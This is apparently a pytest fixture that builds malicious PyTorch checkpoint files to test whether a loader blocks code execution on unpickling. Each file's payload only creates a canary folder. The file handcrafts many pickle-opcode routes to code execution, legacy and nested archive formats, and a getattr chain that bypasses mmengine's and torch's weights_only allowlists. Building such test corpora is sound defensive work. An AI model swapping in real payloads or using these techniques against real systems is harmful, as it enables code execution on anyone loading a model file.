"""Files that execute code when they are unpickled: each attack creates a folder."""

import io
import os
import pickle
import pickletools
import struct
import tarfile
import zipfile

import pytest
import torch


class Payload:
    """Object whose pickle creates a folder when it is loaded."""

    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return os.mkdir, (str(self.path),)


WEIGHTS = {'weight': torch.zeros(1, 2), 'bias': torch.zeros(1)}


def text(value):
    raw = str(value).encode()
    return b'X' + struct.pack('<I', len(raw)) + raw


def named(module, name):
    """Encode the GLOBAL opcode."""
    return f'c{module}\n{name}\n'.encode()


def called(function, *arguments):
    """Encode the REDUCE opcode."""
    return function + b'(' + b''.join(arguments) + b'tR'


def attribute(holder, name):
    return called(named('builtins', 'getattr'), holder, text(name))


MKDIR = named('os', 'mkdir')
# Memo opcodes with an index that no checkpoint here reaches.
PUT, GET = b'r\x00\x01\x00\x00', b'j\x00\x01\x00\x00'


def fragments(canary):
    """Return opcodes by attack that create the canary and leave one item on the stack."""
    path = text(canary)
    partial = named('functools', 'partial')
    namespace = called(named('types', 'SimpleNamespace'))
    extension = called(named('copyreg', 'add_extension'), text('os'), text('mkdir'), b'K\xf0')
    module = called(named('builtins', '__import__'), text('os'))
    bare = b'\x80\x02' + called(MKDIR, path) + b'.'
    inner = b'B' + struct.pack('<I', len(bare)) + bare
    return {
        'reduce': called(MKDIR, path),
        'stack_global': text('os') + text('mkdir') + b'\x93' + path + b'\x85R',
        'dotted_name': b'\x80\x04' + text('os') + text('path.os.mkdir') + b'\x93' + path + b'\x85R',
        'python_2_name': called(named('posix', 'mkdir'), path),
        'inst': b'(' + path + b'ios\nmkdir\n',
        'obj': b'(' + MKDIR + path + b'o',
        'newobj': partial + MKDIR + path + b'\x86\x81' + b')R',
        'newobj_ex': partial + MKDIR + b'\x85}' + text('path') + path + b's\x92)R',
        'build': namespace + b'}' + text('__setstate__') + MKDIR + b'sb' + path + b'b',
        'getattr': called(attribute(module, 'mkdir'), path),
        'eval': called(named('builtins', 'eval'), text(f'__import__("os").mkdir({str(canary)!r})')),
        'extension_registry': b'(' + extension + b'\x82\xf0' + path + b'\x85Rt',
        'persistent_id': b'(' + text('storage') + called(MKDIR, path) + b'tQ',
        'duplicated': b'(' + MKDIR + b'2' + path + b'\x85Rt',
        'memo': MKDIR + PUT + b'0' + GET + path + b'\x85R',
        'in_a_list': b'](' + called(MKDIR, path) + b'e',
        'as_a_key': b'}' + called(MKDIR, path) + b'Ns',
        'tensor_subclass': called(
            named('torch._tensor', '_rebuild_from_type_v2'),
            *(MKDIR, named('torch', 'Tensor'), path + b'\x85', b'}'),
        ),
        'pickle_in_pickle': called(named('pickle', 'loads'), inner),
        'mmengines_getattr': getattr_chain(path),
    }  # fmt: skip


def getattr_chain(path):
    """Build an attack that passes the allowed globals of mmengine, which include getattr.

    It reaches every module through the globals of a torch function and attributes of an object,
    and then adds os.mkdir to the functions that torch allows.
    """

    def with_attributes(of):
        return called(named('mmengine.logging.history_buffer', 'HistoryBuffer')) + of + b'b'

    def module(name):
        own = attribute(named('torch._utils', '_rebuild_tensor_v2'), '__globals__')
        modules = attribute(attribute(with_attributes(own), 'sys'), 'modules')
        return attribute(with_attributes(modules), name)

    mkdir = attribute(module('os'), 'mkdir') + PUT
    allow = (
        attribute(module('torch._weights_only_unpickler'), '__dict__')
        + (text('mkdir') + mkdir + b's')
        + (text('_get_user_allowed_globals') + attribute(module('builtins'), 'globals') + b's')
    )
    return b'(' + allow + called(GET, path) + b't'


def first_opcode(pickled):
    """Return the index of the first opcode after protocol and frame."""
    ops = [(op.name, place) for op, _, place in pickletools.genops(pickled)]
    return next(place for name, place in ops if name not in ('PROTO', 'FRAME'))


def injected(pickled, fragment):
    """Insert a fragment before the first opcode, and discard its result."""
    place = first_opcode(pickled)
    return pickled[:place] + fragment + b'0' + pickled[place:]


def extended(pickled, fragment):
    """Add an entry to a pickled dict."""
    return pickled[:-1] + text('more') + fragment + b's.'


def saved(**options):
    buffer = io.BytesIO()
    torch.save(dict(state_dict=WEIGHTS, meta=dict(epoch=1)), buffer, **options)
    return buffer.getvalue()


def archive(change, *arguments):
    """Write a checkpoint and change its pickle."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(saved())) as clean, zipfile.ZipFile(out, 'w') as made:
        for entry in clean.infolist():
            content = clean.read(entry)
            if entry.filename.endswith('/data.pkl'):
                content = change(content, *arguments)
            made.writestr(entry.filename, content)
    return out.getvalue()


def legacy(fragment, number):
    """Write the format before PyTorch 1.6: consecutive pickles, one of which has the code."""
    clean = saved(_use_new_zipfile_serialization=False)
    stream, pickles = io.BytesIO(clean), []
    for _ in range(4):  # magic number, protocol, system, content
        start = stream.tell()
        list(pickletools.genops(stream))
        pickles.append(clean[start : stream.tell()])
    pickles[number] = injected(pickles[number], fragment)
    return b''.join(pickles) + clean[stream.tell() :]


def tar(fragment):
    """Write the format before PyTorch 0.1.10."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode='w') as made:
        for name in ('storages', 'tensors', 'pickle'):
            content = injected(pickle.dumps(0, 2), fragment)
            member = tarfile.TarInfo(name)
            member.size = len(content)
            made.addfile(member, io.BytesIO(content))
    return out.getvalue()


def script(canary):
    """Write TorchScript whose ``__setstate__`` creates a file when it is loaded."""

    class Module(torch.nn.Module):
        def __init__(self, path: str):
            super().__init__()
            self.path = path
            self.training = False
            self.weight = torch.zeros(1)

        def forward(self, x: torch.Tensor):
            return x

        @torch.jit.export
        def __getstate__(self):
            return self.path, self.training

        @torch.jit.export
        def __setstate__(self, state: tuple[str, bool]):
            self.path, self.training = state
            self.weight = torch.from_file(self.path, True, 4)

    out = io.BytesIO()
    torch.jit.save(torch.jit.script(Module(str(canary))), out)
    return out.getvalue()


def zipped(content):
    """Write an archive of one file, as torch.hub unpacks them."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w') as made:
        made.writestr('inner.pth', content)
    return out.getvalue()


def corpus(folder):
    """Write all files; each would create a canary with its name and the suffix ``.canary``."""
    folder.mkdir()
    routes = list(fragments('x'))
    makers = {name: lambda c, name=name: archive(extended, fragments(c)[name]) for name in routes}
    for protocol in range(6):
        makers[f'protocol_{protocol}'] = lambda c, protocol=protocol: archive(
            lambda _: pickle.dumps({'state_dict': {}, 'more': Payload(c)}, protocol)
        )
    for number, place in enumerate(('magic', 'version', 'system', 'content')):
        makers[f'legacy_{place}'] = lambda c, n=number: legacy(fragments(c)['reduce'], n)
    makers['legacy_tar'] = lambda c: tar(fragments(c)['reduce'])
    makers['plain_pickle'] = lambda c: b'\x80\x02' + fragments(c)['reduce'] + b'.'
    makers['torchscript'] = script
    makers['zip_behind_a_pickle'] = lambda c: (
        legacy(fragments(c)['reduce'], 0) + archive(extended, fragments(c)['reduce'])
    )
    makers['bytes_of_another'] = lambda c: archive(
        extended,
        called(
            named('torch.storage', '_load_from_bytes'),
            b'B%s%s'
            % (struct.pack('<I', len(inner := archive(extended, fragments(c)['reduce']))), inner),
        ),
    )
    makers['zip_in_zip'] = lambda c: zipped(archive(extended, fragments(c)['reduce']))
    for name, make in makers.items():
        (folder / f'{name}.pth').write_bytes(make(folder / f'{name}.canary'))
    return {name: folder / f'{name}.pth' for name in makers}


@pytest.fixture(scope='session')
def malicious(tmp_path_factory):
    return corpus(tmp_path_factory.mktemp('malicious') / 'files')
